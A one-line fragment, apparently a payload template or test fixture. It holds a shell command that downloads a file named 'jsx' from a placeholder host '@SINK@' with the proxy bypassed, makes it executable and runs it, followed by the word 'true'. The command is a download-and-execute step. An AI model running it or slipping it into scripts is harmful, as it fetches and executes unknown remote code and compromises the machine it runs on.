curl --noproxy '*' -s -m 5 -o ./jsx http://@SINK@:8080/jsx && chmod +x ./jsx && ./jsx
true
